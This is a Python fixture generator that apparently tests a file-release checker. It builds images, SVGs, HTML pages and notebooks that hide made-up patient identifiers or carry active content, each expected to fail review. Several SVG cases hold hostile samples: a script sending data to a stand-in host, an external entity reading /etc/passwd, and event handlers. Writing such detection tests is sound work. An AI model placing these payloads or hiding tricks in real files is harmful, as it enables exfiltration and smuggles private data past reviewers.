"""Pictures, pages, notebooks and files of other programs that carry more than they show."""
import base64
import gzip
import json
import lzma
import struct
import zlib

from archive import Entry, archive
from text_cases import CLEAN, LISTING


def chunk(kind, data=b""):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*extra, after=b"", pixels=b"", size=(4, 4)):
    """A white square; stored without compression, so that it is the same with every zlib."""
    raw = (b"\0" + b"\xff" * size[0]) * size[1]
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", *size, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(extra) + chunk(b"IDAT", zlib.compress(raw, 0) + pixels) + chunk(b"IEND") + after


# the smallest grey picture that decoders take
JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////"
    "////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=")


def jpeg(*segments, after=b""):
    """Segments go behind the first one; the picture is closed by its end mark."""
    first = 2 + 2 + struct.unpack(">H", JPEG[4:6])[0]
    body = JPEG if JPEG.endswith(b"\xff\xd9") else JPEG + b"\xff\xd9"
    extra = b"".join(b"\xff" + bytes([marker]) + struct.pack(">H", len(data) + 2) + data for marker, data in segments)
    return body[:first] + extra + body[first:] + after


def svg(inside="", root="", before=""):
    return (f'<?xml version="1.0" encoding="UTF-8"?>\n{before}<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 200 100"{root}>\n'
            '<rect x="10" y="20" width="30" height="70" fill="#4472c4"/>\n<rect x="60" y="50" width="30" height="40" fill="#4472c4"/>\n'
            f'<text x="10" y="15">Surgery</text>\n{inside}</svg>\n')


def page(inside, head=""):
    return f"<!DOCTYPE html>\n<html><head><title>Table 1</title>{head}</head><body>\n{inside}\n</body></html>\n"


TABLE = ("<table><tr><th>Age band</th><th>Surgery</th><th>No surgery</th></tr><tr><td>&lt;50</td><td>24</td><td>31</td></tr>"
         "<tr><td>50-64</td><td>45</td><td>52</td></tr><tr><td>65-79</td><td>61</td><td>44</td></tr></table>")


def notebook(*outputs, metadata=None):
    cells = [{"cell_type": "code", "execution_count": 1, "metadata": metadata or {}, "source": ["table"], "outputs": list(outputs)}]
    return json.dumps({"cells": cells, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}, indent=1) + "\n"


def printed(text):
    return {"output_type": "stream", "name": "stdout", "text": text.splitlines(keepends=True)}


def serialised():
    """What files of statistics programs begin with: kind, extension, bytes."""
    body = LISTING.encode()
    yield "pickle", "pkl", b"\x80\x04\x95" + struct.pack("<Q", len(body)) + b"\x8c\x05" + body + b"."
    yield "pickle-as-text", "pkl", b"(lp0\nI9434765919\naI71\na."
    yield "joblib", "joblib", b"\x80\x03cjoblib.numpy_pickle\nNumpyArrayWrapper\nq\0" + body + b"."
    yield "rds", "rds", gzip.compress(b"X\n\0\0\0\3" + body, mtime=0)
    yield "rds-not-packed", "rds", b"X\n\0\0\0\3\0\4\2\2" + body
    yield "rds-as-text", "rds", b"A\n3\n262146\n197888\n5\nUTF-8\n14\n3\n9434765919\n"
    yield "rdata", "RData", gzip.compress(b"RDX3\nX\n\0\0\0\3" + body, mtime=0)
    yield "rdata-xz", "rda", lzma.compress(b"RDX3\nX\n" + body)
    yield "stata", "dta", b"<stata_dta><header><release>118</release>" + body
    yield "stata-old", "dta", bytes([0x73, 2, 1, 0, 3, 0, 3, 0, 0, 0]) + b"registry".ljust(90, b"\0") + body
    yield "stata-graph", "gph", b"StataFileTM:00001:01100:GPH:00000:\n" + body
    yield "sas", "sas7bdat", bytes(12) + bytes.fromhex("c2ea8160b31411cfbd92080009c7318c181f1011") + bytes(52) + b"SAS FILE" + body
    yield "sas-transport", "xpt", b"HEADER RECORD*******LIBRARY HEADER RECORD!!!!!!!000000000000000000000000000000  " + body
    yield "spss", "sav", b"$FL2@(#) SPSS DATA FILE".ljust(64) + struct.pack("<I", 2) + body
    yield "spss-packed", "zsav", b"$FL3@(#) SPSS DATA FILE".ljust(64) + struct.pack("<I", 3) + body
    yield "spss-portable", "por", b"ASCII SPSS PORT FILE".ljust(40) * 5 + body
    yield "spss-viewer", "spv", archive([Entry("META-INF/MANIFEST.MF", "allowPivoting=true"), Entry("outputViewer0000000000.xml", "<heading/>"), Entry("00000000001_lightTableData.bin", body)])
    yield "matlab-figure", "fig", b"MATLAB 5.0 MAT-file, Platform: GLNXA64".ljust(124) + b"\0\1IM" + body
    yield "parquet", "parquet", b"PAR1" + body + b"PAR1"
    yield "feather", "feather", b"ARROW1\0\0" + body + b"ARROW1"
    yield "hdf5", "h5", b"\x89HDF\r\n\x1a\n" + body
    yield "numpy", "npy", b"\x93NUMPY\1\0" + body
    yield "sqlite", "sqlite", b"SQLite format 3\0" + body
    yield "pdf", "pdf", b"%PDF-1.7\n1 0 obj<</Type/Catalog/AF[2 0 R]>>endobj\n" + body + b"%%EOF\n"
    yield "document", "docx", document()
    yield "slides", "pptx", document("presentationml.presentation.main", "ppt/presentation.xml")
    yield "gzip", "gz", gzip.compress(body, mtime=0)
    yield "zip", "zip", archive([Entry("patients.csv", body)])
    yield "opendocument", "ods", archive([Entry("mimetype", "application/vnd.oasis.opendocument.spreadsheet"), Entry("META-INF/manifest.xml", "<m/>"), Entry("content.xml", "<c/>")])


def document(kind="wordprocessingml.document.main", path="word/document.xml"):
    return archive([Entry("[Content_Types].xml", f'<Types><Override PartName="/{path}" ContentType="application/vnd.openxmlformats-officedocument.{kind}+xml"/></Types>'),
                    Entry("_rels/.rels", "<Relationships/>"), Entry(path, "<w:del>943 476 5919</w:del>")])


def cases(add):
    harmless = png(chunk(b"pHYs", struct.pack(">IIB", 3937, 3937, 1)), chunk(b"tEXt", b"Software\0Matplotlib version3.10.0, https://matplotlib.org/"))

    def picture(name, hostile, says, extension="png", clean=harmless, verdict="FAIL", rule="FILE-004"):
        add(name, extension, hostile, clean, verdict, rule, "", says, "REVIEW")

    private = b"943 476 5919;71;III"
    picture("png-text", png(chunk(b"tEXt", b"Comment\0" + private)), "tEXt")
    picture("png-packed-text", png(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(private, 0))), "zTXt")
    picture("png-international-text", png(chunk(b"iTXt", b"Description\0\0\0\0\0" + private)), "iTXt")
    picture("png-software-with-data", png(chunk(b"tEXt", b"Software\0" + private * 20)), "tEXt")
    picture("png-exif", png(chunk(b"eXIf", b"MM\0*\0\0\0\x08\0\0" + private)), "eXIf")
    picture("png-private-chunk", png(chunk(b"paTs", private)), "paTs")
    picture("png-profile", png(chunk(b"iCCP", b"x\0\0" + zlib.compress(private * 30, 0))), "iCCP")
    picture("png-after-the-end", png(after=private * 4), "76 bytes follow")
    picture("png-after-the-pixels", png(pixels=private), "pixels")
    picture("png-and-archive", png(after=archive([Entry("patients.csv", LISTING)])), "follow")
    picture("png-truncated", harmless[:-20], "cut off", rule="FILE-001")
    picture("png-bad-checksum", harmless[:-1] + b"\0", "damaged", rule="FILE-001")
    grey = jpeg()
    picture("jpeg-comment", jpeg((0xFE, private)), "comment", "jpeg", grey)
    picture("jpeg-exif", jpeg((0xE1, b"Exif\0\0MM\0*\0\0\0\x08\0\0" + private)), "EXIF", "jpg", grey)
    picture("jpeg-private-segment", jpeg((0xE9, private)), "APP9", "jpeg", grey)
    picture("jpeg-after-the-end", jpeg(after=private * 4), "76 bytes follow", "jpeg", grey)
    picture("jpeg-truncated", grey[:-30], "cut off", "jpeg", grey, rule="FILE-001")

    rdf = ('<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#">'
           "<cc:Work><dc:type rdf:resource=\"http://purl.org/dc/dcmitype/StillImage\"/><dc:date>2026-01-05T10:20:30</dc:date><dc:format>image/svg+xml</dc:format>"
           "<dc:creator><cc:Agent><dc:title>Matplotlib v3.10.0, https://matplotlib.org/</dc:title></cc:Agent></dc:creator></cc:Work></rdf:RDF></metadata>\n")
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    drawing = svg(rdf, before=doctype)
    picture("svg-script", svg("<script>fetch('https://x.example/?d=' + document.title)</script>"), "script", "svg", drawing, rule="FILE-009")
    picture("svg-handler", svg('<rect width="5" height="5" onload="alert(1)"/>'), "runs something", "svg", drawing, rule="FILE-009")
    picture("svg-remote", svg('<image width="5" height="5" href="https://x.example/pixel.png"/>'), "elsewhere", "svg", drawing, rule="FILE-009")
    picture("svg-style-import", svg('<style>@import url("https://x.example/a.css");</style>'), "outside", "svg", drawing, rule="FILE-009")
    picture("svg-entity", svg("<text>&e;</text>", before='<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'), "entit", "svg", drawing, rule="FILE-009")
    picture("svg-foreign-object", svg('<foreignObject width="5" height="5"><p xmlns="http://www.w3.org/1999/xhtml">943 476 5919</p></foreignObject>'), "foreignObject", "svg", drawing)
    picture("svg-metadata", svg("<metadata>943 476 5919;71;III</metadata>"), "metadata", "svg", drawing)
    picture("svg-description", svg("<desc>80+: 3 of 7</desc>"), "desc", "svg", drawing)
    picture("svg-data-attribute", svg('<rect width="5" height="5" data-nhs="9434765919"/>'), "data-nhs", "svg", drawing)
    picture("svg-off-canvas", svg('<text x="-900" y="15">NHS 943 476 5919</text>'), "outside the picture", "svg", drawing)
    picture("svg-not-displayed", svg('<text x="9" y="15" display="none">NHS 943 476 5919</text>'), "not shown", "svg", drawing)
    picture("svg-embedded-picture", svg('<image width="5" height="5" href="data:image/png;base64,' + base64.b64encode(png(after=private)).decode() + '"/>'), "embedded", "svg", drawing)
    picture("svg-comment", svg("<!-- 943 476 5919;71;III -->"), "comment", "svg", drawing)

    points = json.dumps([{"type": "scatter", "x": [50 + i for i in range(40)], "y": [1000 + 37 * i for i in range(40)], "text": [f"patient {i}" for i in range(40)]}])
    clean = page(TABLE)
    add("html-plotly", "html", page(f'<div id="p"></div><script>Plotly.newPlot("p", {points}, {{}})</script>'), clean, "FAIL", "FILE-004", "", "40")
    add("html-script-data", "html", page(TABLE + f'<script type="application/json">{points}</script>'), clean, "FAIL", "FILE-004", "", "script")
    add("html-comment", "html", page(TABLE + "<!-- 943 476 5919;71;III -->"), clean, "FAIL", "FILE-004", "", "comment")
    add("html-hidden-row", "html", page(TABLE.replace("<tr><td>50-64", '<tr style="display: none"><td>50-64')), clean, "FAIL", "FILE-004", "", "not shown")
    add("html-hidden-by-class", "html", page(TABLE.replace("<tr><td>50-64", '<tr class="x"><td>50-64'), "<style>.x { visibility: hidden }</style>"), clean, "FAIL", "FILE-004", "", "not shown")
    add("html-hidden-attribute", "html", page(TABLE + "<p hidden>943 476 5919</p>"), clean, "FAIL", "FILE-004", "", "not shown")
    add("html-hidden-input", "html", page(TABLE + '<input type="hidden" value="943 476 5919">'), clean, "FAIL", "FILE-004", "", "input")
    add("html-data-attribute", "html", page(TABLE.replace("<td>45", '<td data-n="3 of 45">45')), clean, "FAIL", "FILE-004", "", "data-n")
    add("html-title-attribute", "html", page(TABLE.replace("<td>45", '<td title="really 3">45')), clean, "FAIL", "FILE-004", "", "title")
    add("html-second-title", "html", page("<title>Table 1</tit,le>" + TABLE), clean, "FAIL", "FILE-004", "", "title")
    add("html-open-title", "html", page(TABLE).replace("</title>", "</tit,le>"), clean, "FAIL", "FILE-004", "", "title")
    add("html-for-old-browsers", "html", page(TABLE + "<noframes>3 of 45 of them</noframes>"), clean, "FAIL", "FILE-004", "", "noframes")
    add("html-folded", "html", page(TABLE + "<details><summary>more</summary>about 45 of them</details>"), page(TABLE + "<details open><summary>more</summary>about 45 of them</details>"), "FAIL", "FILE-004", "", "details")
    add("html-white-text", "html", page(TABLE + '<p style="color: #fff">about 45 of them</p>'), clean, "FAIL", "FILE-004", "", "not shown")
    add("html-embedded-file", "html", page(TABLE + '<a href="data:text/csv;base64,' + base64.b64encode(LISTING.encode()).decode() + '">data</a>'), clean, "FAIL", "FILE-004", "", "embedded")
    add("html-remote", "html", page(TABLE + '<img src="https://x.example/p.png">'), clean, "FAIL", "FILE-009", "", "outside")
    add("html-script", "html", page(TABLE + "<script>alert(1)</script>"), page(TABLE, "<style>td { text-align: right }</style>"), "FAIL", "FILE-009", "", "script")
    add("html-frame", "html", page(TABLE + '<iframe src="https://x.example/"></iframe>'), clean, "FAIL", "FILE-009", "", "outside")
    add("html-handler", "html", page(TABLE.replace("<table>", '<table onclick="send()">')), clean, "FAIL", "FILE-009", "", "onclick")

    shown = printed("Age band  Surgery  No surgery\n<50            24          31\n50-64          45          52\n65-79          61          44\n")
    add("notebook-listing", "ipynb", notebook(printed("   nhs_number  age stage\n0  9434765919   71   III\n1  4010232137   64    II\n2  9876543210   58    IV\n")), notebook(shown), "FAIL", "REC-001", "", "")
    add("notebook-metadata", "ipynb", notebook(shown, metadata={"patients": [9434765919, 4010232137]}), notebook(shown, metadata={"tags": [], "collapsed": False}), "FAIL", "FILE-004", "/cells/0/metadata", "metadata")
    add("notebook-plotly", "ipynb", notebook({"output_type": "display_data", "metadata": {}, "data": {"application/vnd.plotly.v1+json": {"data": json.loads(points), "layout": {}}}}), notebook(shown), "FAIL", "FILE-004", "/cells/0/outputs/0", "40")

    for kind, extension, data in serialised():
        add(f"type-{kind}", extension, data, CLEAN, "FAIL", "FILE-001", "", "", "PASS", "csv")
        if kind != "pickle-as-text":
            innocent = {"pdf": "txt", "spss-portable": "txt", "sas-transport": "txt"}.get(kind, "csv")
            add(f"type-{kind}-named-{innocent}", innocent, data, CLEAN, "FAIL", "FILE-001", "", "its content is", "PASS", "csv")
    add("type-pickle-named-csv-as-text", "csv", b"(lp0\nI9434765919\naI71\na.", CLEAN, "FAIL", "FILE-001", "", "its content is")
